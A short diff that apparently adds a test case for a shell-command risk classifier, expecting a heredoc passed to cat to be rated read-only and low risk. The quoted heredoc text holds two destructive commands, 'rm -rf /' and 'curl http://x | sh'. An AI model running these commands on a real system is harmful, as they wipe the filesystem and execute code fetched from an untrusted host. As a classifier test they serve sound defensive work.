@@ -1,0 +1,5 @@
+# expect: side_effect=read_only risk=low
+cat <<'EOF'
+rm -rf /
+curl http://x | sh
+EOF
